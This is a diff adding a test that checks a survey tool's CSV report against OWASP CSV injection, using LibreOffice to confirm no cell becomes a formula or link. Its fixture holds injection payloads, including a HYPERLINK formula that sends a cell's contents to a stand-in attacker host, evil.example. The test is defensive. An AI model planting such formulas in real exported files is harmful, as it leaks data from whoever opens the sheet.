@@ -203,3 +203,47 @@ def test_report_yml_makes_the_page_from_an_export_a_json_report_and_an_artifact(
                                check=False)
     assert bad_zone.returncode != 0 and 'studio_report_timezone must be an IANA time zone name' in bad_zone.stdout
     assert not (tmp_path / 'x.html').exists()
+
+
+SOFFICE = shutil.which('soffice') or shutil.which('libreoffice')
+FORMULAS = {'a': '=HYPERLINK("http://evil.example/?d="&B3,"Click me")', 'b': '=1+1', 'c': '+1+2', 'd': '-2+3',
+            'e': '@SUM(4+5)', 'f': '\t=3+4'}
+
+
+@pytest.mark.skipif(SOFFICE is None, reason='LibreOffice is not installed (Debian: apt-get install libreoffice-calc)')
+def test_a_spreadsheet_opens_the_csv_as_text_with_one_row_per_contact(studio, tmp_path):
+    """OWASP CSV injection, checked in LibreOffice Calc: no cell of report.csv becomes a formula or a
+    link, a carriage return inside a reply does not split its row, and numbers keep their +."""
+    inventory = tmp_path / 'formulas.yml'
+    inventory.write_text(json.dumps({'studio_contacts': {
+        'vars': {'studio_flow': SURVEY, 'studio_from': '+15005550006'},
+        'hosts': {'+15551230001': {'studio_parameters': FORMULAS}, '=1+1': {'studio_to': '+15551230002'},
+                  '+15551230003': {}}}}))
+    fields = dict((key, 'flow.data.%s' % key) for key in FORMULAS)
+    fields['rating'] = 'widgets.ask_rating.inbound.Body'
+    studio.playbook('run_flow.yml', inventory=inventory)
+    studio.control.reply(SURVEY, '+15551230002', '\r=5+6')
+    studio.control.reply(SURVEY, '+15551230003', 'a\rb\r\nc')
+    report = tmp_path / 'report.csv'
+    studio.playbook('gather_facts.yml', '-e', json.dumps({'studio_report_path': str(report),
+                                                          'studio_report_fields': fields}), inventory=inventory)
+    raw = report.read_bytes()
+    assert raw.endswith(b'"\r\n') and raw.startswith(b'"contact","to",')
+    rows = list(csv.DictReader(report.open(newline='')))
+    assert len(rows) == 3  # Python's csv reader: one row per contact, no phantom row
+    by_contact = dict((row['contact'], row) for row in rows)
+    assert by_contact["'+15551230001"]['a'] == "'" + FORMULAS['a'] and by_contact["'=1+1"]['to'] == "'+15551230002"
+    assert by_contact["'=1+1"]['rating'] == "'\r=5+6" and by_contact["'+15551230003"]['rating'] == 'a\rb\r\nc'
+
+    out = tmp_path / 'calc'
+    subprocess.run([SOFFICE, '-env:UserInstallation=file://%s' % (tmp_path / 'lo-profile'), '--headless',
+                    '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', str(out), str(report)],
+                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=180, check=True)
+    sheet = (out / 'report.fods').read_text()
+    assert 'table:formula' not in sheet and '<text:a' not in sheet  # nothing computed, no live link
+    table = sheet[sheet.index('<table:table '):sheet.index('</table:table>')]
+    assert table.count('<table:table-row') == 4  # the header and three contacts: no row split
+    for text in ('+15551230001', '=HYPERLINK(', '=1+1', '+1+2', '-2+3', '@SUM(4+5)', '=5+6'):
+        assert text in sheet.replace('&quot;', '"').replace('&amp;', '&'), text
+    # every phone number is text with its + (LibreOffice shows the leading ' too), never a number
+    assert not re.search(r'office:value="1555123000\d"', sheet) and '&apos;+15551230001' in sheet
